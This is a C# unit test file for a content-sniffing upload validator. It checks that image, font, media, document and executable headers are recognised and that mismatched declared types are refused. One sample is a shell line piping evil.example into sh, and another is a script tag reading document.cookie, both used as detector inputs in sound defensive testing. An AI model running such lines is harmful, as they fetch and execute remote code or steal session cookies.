using System.Text;
using Communique.Assets.Storage;

namespace Communique.Tests.Assets.Storage;

public sealed class ContentSnifferTests
{
    // Small but real headers, as the format specifications lay them out.
    private static byte[] Sample(string name) => name switch
    {
        "png" => [0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A,
            0, 0, 0, 13, (byte)'I', (byte)'H', (byte)'D', (byte)'R', 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1F, 0x15,
            0xC4, 0x89],
        "jpeg" =>
            [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0x00, 0x01, 0x01, 0x00,
                0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0xFF, 0xD9],
        "gif" => [.. "GIF89a"u8, 0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0x3B],
        "webp" =>
            [.. "RIFF"u8, 0x1A, 0x00, 0x00, 0x00, .. "WEBP"u8, .. "VP8L"u8, 0x0D, 0x00, 0x00, 0x00, 0x2F, 0x00, 0x00,
                0x00, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xFE, 0x07, 0x00],
        "svg" => Utf8("""
            <?xml version="1.0" encoding="UTF-8"?>
            <!-- drawn by hand -->
            <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10"/></svg>
            """),
        "svg-with-doctype" => Utf8("""
            <?xml version="1.0"?>
            <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [ <!ENTITY e "<g>"> ]>
            <svg:svg xmlns:svg="http://www.w3.org/2000/svg"/>
            """),
        "ttf" => [0x00, 0x01, 0x00, 0x00, 0x00, 0x0A, 0x00, 0x80, 0x00, 0x03, 0x00, 0x20, .. "cmap"u8, 0, 0, 0, 0, 0, 0,
            0, 0xAC, 0, 0, 0, 0x34],
        "otf" => [.. "OTTO"u8, 0x00, 0x0A, 0x00, 0x80, 0x00, 0x03, 0x00, 0x20, .. "CFF "u8, 0, 0, 0, 0, 0, 0, 0, 0xAC,
            0, 0, 0, 0x34],
        "woff" => [.. "wOFF"u8, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x10, 0x00, 0x00, 0x0A, 0x00, 0x00],
        "woff2" => [.. "wOF2"u8, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x10, 0x00, 0x00, 0x0A, 0x00, 0x00],
        "pdf" => [.. "%PDF-1.7\n%"u8, 0xE2, 0xE3, 0xCF, 0xD3, .. "\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"u8],
        "docx" => [.. "PK"u8, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00, 0x00, 0x00, 0x21, 0x00,
            0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
            0x13, 0x00, 0x00, 0x00, .. "[Content_Types].xml"u8],
        "text" => Utf8("Hello, wörld — ünïcödé\r\n\tindented line\n"),
        "csv" => Utf8("name,email,city\nAda,ada@example.com,Zürich\nGrace,grace@example.com,\"New York, NY\"\n"),
        "json" => Utf8("""{ "palette": ["#0055ff", "#ffcc00"], "fonts": ["Inter", "Source Serif"] }"""),
        "pe" => PortableExecutable(),
        "elf" => [0x7F, (byte)'E', (byte)'L', (byte)'F', 0x02, 0x01, 0x01, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0x02, 0x00,
            0x3E, 0x00],
        "mach-o" => [0xCF, 0xFA, 0xED, 0xFE, 0x07, 0x00, 0x00, 0x01, 0x03, 0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00],
        "script" => Utf8("#!/bin/sh\ncurl https://evil.example | sh\n"),
        "html" => Utf8("<!DOCTYPE html>\n<html><body><p>hi</p></body></html>"),
        "html-fragment" => Utf8("  <script>alert(document.cookie)</script>"),
        "xhtml" => Utf8("""<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>"""),
        "mp4" => [0, 0, 0, 0x20, .. "ftypisom"u8, 0, 0, 2, 0, .. "isomiso2avc1mp41"u8, 0, 0, 0, 8, .. "free"u8],
        "quicktime" => [0, 0, 0, 0x14, .. "ftypqt  "u8, 0, 0, 2, 0, .. "qt  "u8, 0, 0, 0, 8, .. "wide"u8],
        "webm" => [0x1A, 0x45, 0xDF, 0xA3, 0x9F, 0x42, 0x86, 0x81, 0x01, 0x42, 0xF7, 0x81, 0x01, 0x42, 0x82, 0x84,
            .. "webm"u8],
        "ogg" => [.. "OggS"u8, 0x00, 0x02, 0, 0, 0, 0, 0, 0, 0, 0, 0x2A, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x01, 0x1E,
            0x01, .. "vorbis"u8],
        "mp3-id3" => [.. "ID3"u8, 0x04, 0x00, 0x00, 0x00, 0x00, 0x00, 0x23, .. "TSSE"u8, 0, 0, 0, 0x0F],
        "mp3-frame" => [0xFF, 0xFB, 0x90, 0x64, 0x00, 0x00, 0x00, 0x00],
        "adts" => [0xFF, 0xF1, 0x50, 0x80, 0x02, 0x1F, 0xFC, 0x21],
        "wav" => [.. "RIFF"u8, 0x24, 0x08, 0, 0, .. "WAVE"u8, .. "fmt "u8, 16, 0, 0, 0, 1, 0, 1, 0, 0x44, 0xAC, 0, 0,
            0x88, 0x58, 0x01, 0, 2, 0, 16, 0],
        "latin-1" => [(byte)'c', (byte)'a', (byte)'f', 0xE9, (byte)'\n'],
        "binary" => [0x00, 0x13, 0x37, 0xC0, 0xFF, 0xEE, 0x00, 0x01],
        _ => throw new ArgumentOutOfRangeException(nameof(name)),
    };

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    // A DOS header whose e_lfanew (offset 0x3C) points at the "PE\0\0" signature and a COFF header for x64.
    private static byte[] PortableExecutable()
    {
        var bytes = new byte[0x80 + 24];
        bytes[0] = (byte)'M';
        bytes[1] = (byte)'Z';
        bytes[0x3C] = 0x80;
        "PE\0\0"u8.CopyTo(bytes.AsSpan(0x80));
        bytes[0x84] = 0x64;
        bytes[0x85] = 0x86;
        return bytes;
    }

    [Theory]
    [InlineData("png", ContentFormat.Png)]
    [InlineData("jpeg", ContentFormat.Jpeg)]
    [InlineData("gif", ContentFormat.Gif)]
    [InlineData("webp", ContentFormat.WebP)]
    [InlineData("svg", ContentFormat.Svg)]
    [InlineData("svg-with-doctype", ContentFormat.Svg)]
    [InlineData("ttf", ContentFormat.TrueType)]
    [InlineData("otf", ContentFormat.OpenType)]
    [InlineData("woff", ContentFormat.Woff)]
    [InlineData("woff2", ContentFormat.Woff2)]
    [InlineData("pdf", ContentFormat.Pdf)]
    [InlineData("docx", ContentFormat.Zip)]
    [InlineData("text", ContentFormat.Text)]
    [InlineData("csv", ContentFormat.Text)]
    [InlineData("json", ContentFormat.Json)]
    [InlineData("pe", ContentFormat.WindowsExecutable)]
    [InlineData("elf", ContentFormat.LinuxExecutable)]
    [InlineData("mach-o", ContentFormat.MacExecutable)]
    [InlineData("script", ContentFormat.Script)]
    [InlineData("html", ContentFormat.Html)]
    [InlineData("html-fragment", ContentFormat.Html)]
    [InlineData("xhtml", ContentFormat.Html)]
    [InlineData("mp4", ContentFormat.IsoMedia)]
    [InlineData("quicktime", ContentFormat.IsoMedia)]
    [InlineData("webm", ContentFormat.Matroska)]
    [InlineData("ogg", ContentFormat.Ogg)]
    [InlineData("mp3-id3", ContentFormat.Mp3)]
    [InlineData("mp3-frame", ContentFormat.Mp3)]
    [InlineData("adts", ContentFormat.Unknown)]
    [InlineData("wav", ContentFormat.Wav)]
    [InlineData("latin-1", ContentFormat.Unknown)]
    [InlineData("binary", ContentFormat.Unknown)]
    public void Each_format_is_recognised_from_its_first_bytes(string sample, ContentFormat expected)
    {
        Assert.Equal(expected, ContentSniffer.Sniff(Sample(sample)));
    }

    [Fact]
    public async Task Sniffing_a_stream_reads_only_its_head()
    {
        var bytes = new byte[ContentSniffer.HeadLength * 3];
        Sample("png").CopyTo(bytes, 0);
        using var stream = new MemoryStream(bytes);

        Assert.Equal(ContentFormat.Png, await ContentSniffer.SniffAsync(stream, TestContext.Current.CancellationToken));
        Assert.Equal(ContentSniffer.HeadLength, stream.Position);
    }

    [Fact]
    public void A_utf8_byte_order_mark_does_not_hide_the_format()
    {
        Assert.Equal(ContentFormat.Json, ContentSniffer.Sniff([0xEF, 0xBB, 0xBF, .. Sample("json")]));
        Assert.Equal(ContentFormat.Svg, ContentSniffer.Sniff([0xEF, 0xBB, 0xBF, .. Sample("svg")]));
    }

    [Fact]
    public void A_head_cut_in_the_middle_of_a_character_is_still_text_but_a_whole_file_ending_so_is_not()
    {
        var head = Utf8(new string('a', ContentSniffer.HeadLength - 1) + "é")[..ContentSniffer.HeadLength];
        var whole = Utf8("café")[..^1];

        Assert.Equal(ContentFormat.Text, ContentSniffer.Sniff(head));
        Assert.Equal(ContentFormat.Unknown, ContentSniffer.Sniff(whole));
    }

    [Fact]
    public void Text_that_starts_with_MZ_is_not_taken_for_an_executable()
    {
        Assert.Equal(ContentFormat.Text, ContentSniffer.Sniff(Utf8("MZ,Mozambique,Maputo\n" + new string('x', 100))));
    }

    [Theory]
    [InlineData("true,false,true\n1,2,3\n")]
    [InlineData("OTTO,Bismarck\n")]
    [InlineData("wOFF the record\n")]
    public void Text_that_starts_with_a_font_tag_is_not_taken_for_a_font(string text)
    {
        Assert.Equal(ContentFormat.Text, ContentSniffer.Sniff(Utf8(text)));
    }

    [Theory]
    [InlineData("The ftyp box comes first.\n")]
    [InlineData("OggS and Vorbis\n")]
    public void Text_that_has_a_media_tag_is_not_taken_for_media(string text)
    {
        Assert.Equal(ContentFormat.Text, ContentSniffer.Sniff(Utf8(text)));
    }

    [Fact]
    public void JSON_that_does_not_parse_is_only_text()
    {
        Assert.Equal(ContentFormat.Text, ContentSniffer.Sniff(Utf8("{ palette: red }")));
        Assert.Equal(ContentFormat.Text, ContentSniffer.Sniff(Utf8("""{ "a": 1 } trailing""")));
    }

    [Fact]
    public void XML_with_another_root_is_only_text()
    {
        Assert.Equal(
            ContentFormat.Text, ContentSniffer.Sniff(Utf8("""<?xml version="1.0"?><note><to>Ada</to></note>""")));
    }

    [Fact]
    public void An_image_whose_bytes_are_a_PE_executable_is_refused()
    {
        var check = ContentSniffer.Check(AssetKind.Image, "image/png", Sample("pe"));

        Assert.False(check.Accepted);
        Assert.Equal(ContentFormat.WindowsExecutable, check.Format);
        Assert.Equal("declared image/png but the bytes are a Windows executable (PE)", check.Refusal);
    }

    [Theory]
    [InlineData(AssetKind.Attachment, "text/plain", "script", "declared text/plain but the bytes are a script (#!)")]
    [InlineData(AssetKind.Attachment, "text/plain", "html", "declared text/plain but the bytes are HTML")]
    [InlineData(
        AssetKind.Attachment, "application/pdf", "elf",
        "declared application/pdf but the bytes are a Linux executable (ELF)")]
    [InlineData(
        AssetKind.Font, "font/woff2", "mach-o", "declared font/woff2 but the bytes are a macOS executable (Mach-O)")]
    [InlineData(AssetKind.Image, "image/jpeg", "png", "declared image/jpeg but the bytes are a PNG image")]
    [InlineData(
        AssetKind.Image, "image/png", "binary",
        "declared image/png but the bytes are of no recognised format (text must be UTF-8)")]
    [InlineData(
        AssetKind.Attachment, "text/csv", "latin-1",
        "declared text/csv but the bytes are of no recognised format (text must be UTF-8)")]
    [InlineData(
        AssetKind.DesignScheme, "application/json", "text", "declared application/json but the bytes are UTF-8 text")]
    [InlineData(AssetKind.Font, "image/png", "png", "image/png is not accepted as a font")]
    [InlineData(AssetKind.Attachment, "image/svg+xml", "svg", "image/svg+xml is not accepted as an attachment")]
    [InlineData(AssetKind.DesignScheme, "text/plain", "json", "text/plain is not accepted as a design scheme")]
    [InlineData(
        AssetKind.Attachment, "application/zip", "docx", "application/zip is not a type the asset library accepts")]
    [InlineData(AssetKind.Attachment, "", "pdf", "an empty content type is not a type the asset library accepts")]
    [InlineData(AssetKind.Video, "video/mp4", "text", "declared video/mp4 but the bytes are UTF-8 text")]
    [InlineData(AssetKind.Audio, "video/mp4", "mp4", "video/mp4 is not accepted as audio")]
    [InlineData(AssetKind.Video, "audio/mpeg", "mp3-frame", "audio/mpeg is not accepted as a video")]
    [InlineData(AssetKind.Attachment, "video/webm", "webm", "video/webm is not accepted as an attachment")]
    [InlineData(AssetKind.Audio, "audio/wav", "webp", "declared audio/wav but the bytes are a WebP image")]
    [InlineData(AssetKind.Audio, "audio/ogg", "wav", "declared audio/ogg but the bytes are a WAV file")]
    public void A_mismatch_is_refused_with_a_reason(AssetKind kind, string declared, string sample, string reason)
    {
        var check = ContentSniffer.Check(kind, declared, Sample(sample));

        Assert.False(check.Accepted);
        Assert.Equal(reason, check.Refusal);
    }

    [Theory]
    [InlineData(AssetKind.Image, "image/png", "png", "image/png")]
    [InlineData(AssetKind.Image, "IMAGE/JPG", "jpeg", "image/jpeg")]
    [InlineData(AssetKind.Image, "image/gif", "gif", "image/gif")]
    [InlineData(AssetKind.Image, "image/webp", "webp", "image/webp")]
    [InlineData(AssetKind.Image, "image/svg+xml", "svg", "image/svg+xml")]
    [InlineData(AssetKind.Attachment, "image/png", "png", "image/png")]
    [InlineData(AssetKind.Font, "font/ttf", "ttf", "font/ttf")]
    [InlineData(AssetKind.Font, "font/ttf", "otf", "font/otf")]
    [InlineData(AssetKind.Font, "application/x-font-otf", "otf", "font/otf")]
    [InlineData(AssetKind.Font, "font/woff", "woff", "font/woff")]
    [InlineData(AssetKind.Font, "font/woff2", "woff2", "font/woff2")]
    [InlineData(AssetKind.Attachment, "application/pdf", "pdf", "application/pdf")]
    [InlineData(AssetKind.Attachment, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]
    [InlineData(AssetKind.Attachment, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "docx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")]
    [InlineData(
        AssetKind.Attachment, "application/vnd.openxmlformats-officedocument.presentationml.presentation", "docx",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation")]
    [InlineData(AssetKind.Attachment, "text/plain", "text", "text/plain; charset=utf-8")]
    [InlineData(AssetKind.Attachment, "text/csv; charset=utf-8", "csv", "text/csv; charset=utf-8")]
    [InlineData(AssetKind.Attachment, "application/json", "json", "application/json")]
    [InlineData(AssetKind.DesignScheme, "application/json", "json", "application/json")]
    [InlineData(AssetKind.Video, "video/mp4", "mp4", "video/mp4")]
    [InlineData(AssetKind.Video, "video/quicktime", "quicktime", "video/quicktime")]
    [InlineData(AssetKind.Video, "video/webm", "webm", "video/webm")]
    [InlineData(AssetKind.Video, "video/ogg", "ogg", "video/ogg")]
    [InlineData(AssetKind.Audio, "audio/mp4", "mp4", "audio/mp4")]
    [InlineData(AssetKind.Audio, "audio/x-m4a", "mp4", "audio/mp4")]
    [InlineData(AssetKind.Audio, "audio/webm", "webm", "audio/webm")]
    [InlineData(AssetKind.Audio, "audio/ogg", "ogg", "audio/ogg")]
    [InlineData(AssetKind.Audio, "audio/mpeg", "mp3-id3", "audio/mpeg")]
    [InlineData(AssetKind.Audio, "audio/mpeg", "mp3-frame", "audio/mpeg")]
    [InlineData(AssetKind.Audio, "audio/wave", "wav", "audio/wav")]
    [InlineData(AssetKind.Audio, "audio/x-wav", "wav", "audio/wav")]
    public void Bytes_that_match_the_declared_kind_and_type_are_accepted(
        AssetKind kind, string declared, string sample, string mediaType)
    {
        var check = ContentSniffer.Check(kind, declared, Sample(sample));

        Assert.True(check.Accepted, check.Refusal);
        Assert.Equal(mediaType, check.MediaType);
    }
}
